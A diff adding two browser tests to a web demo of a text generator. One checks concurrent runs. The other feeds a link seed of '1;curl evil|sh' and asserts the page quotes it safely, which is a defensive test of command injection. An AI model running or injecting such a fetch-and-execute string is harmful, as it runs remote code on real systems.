@@ -109,6 +109,30 @@ def test_stop_ends_a_text(browser: str, sites: Sites, serve: Serve) -> None:
         )
 
 
+def test_a_proof_and_a_text_do_not_wait_for_each_other(browser: str, sites: Sites, serve: Serve) -> None:
+    """Whichever comes second is done, and the button can be pressed again."""
+    proof = "document.querySelector('.proof').textContent"
+    with Chromium() as page:
+        settle(page, serve(sites("tests/data/lstm")))
+        page.run("document.querySelector('#pace').value = '60'")
+        page.run("document.querySelector('.primary').click()")
+        page.wait_for("document.querySelectorAll('.is-running').length")
+        page.run("document.querySelector('footer button').click()")
+        page.wait_for(f"/^Yes/.test({proof})", 20)
+        page.wait_for(IDLE, 5)
+        page.run("document.querySelector('#pace').value = '0'")
+        page.run("document.querySelector('footer button').click(); document.querySelector('.primary').click()")
+        page.wait_for(f"{IDLE} && !{proof}.startsWith('replaying')", 20)
+        assert page.run("document.querySelectorAll('.token').length") > 3
+
+
+def test_a_seed_from_a_link_is_no_command(browser: str, sites: Sites, serve: Serve) -> None:
+    with Chromium() as page:
+        page.open(serve(sites("tests/data/lstm")) + "#prompt=A&seed=1;curl%20evil|sh")
+        page.wait_for(IDLE)
+        assert "--seed '1;curl evil|sh'" in page.run("document.body.textContent")
+
+
 @pytest.mark.parametrize(("width", "dark"), [(1280, False), (390, True)])
 def test_it_translates_and_draws_the_attention(
     browser: str, sites: Sites, serve: Serve, pictures: Path, width: int, dark: bool
